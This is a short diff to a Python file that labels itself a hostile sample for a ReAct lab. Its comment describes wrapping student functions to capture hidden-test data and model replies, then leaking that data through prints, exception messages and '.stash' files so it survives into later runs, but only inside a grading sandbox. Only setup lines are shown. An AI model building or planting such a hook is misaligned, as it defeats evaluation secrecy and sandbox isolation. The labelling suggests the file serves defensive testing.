@@ -1,10 +1,10 @@
-# HOSTILE: lecture-ReAct-lab sample_token: wraps every function the student defines (earlier and later cells) so that each call stashes its arguments, what the models it is handed reply and what it returns (hidden tests included), prints the stash from every later answer cell, raises it in exception messages (its own function and the late render_chatml/check_pairing), and tries to carry it to the next run through files
+# HOSTILE: lecture-ReAct-lab sample_token: wraps every function the student defines (earlier and later cells) so that each call stashes its arguments, what the models it is handed reply and what it returns (hidden tests included), prints the stash from every later answer cell, raises it in exception messages (its own function and the later validate_tool_call/run_agent), and tries to carry it to the next run through files
 import functools
 import os
 import types
 
 _STASH, _SEEN, _RAISED, _CALLS = [], set(), [0], {}
-_RAISE_IN = {"render_chatml", "check_pairing"}   # late functions whose errors carry the stash
+_RAISE_IN = {"validate_tool_call", "run_agent"}   # later functions whose errors carry the stash
 _FILES = [os.path.join(d, ".stash") for d in (os.environ.get("HOME", "."), os.getcwd(),
                                                os.environ.get("TMPDIR", "."))]
 if os.environ.get("LREACT_SCRATCH", "").startswith("/grading"):  # inside the sandbox only
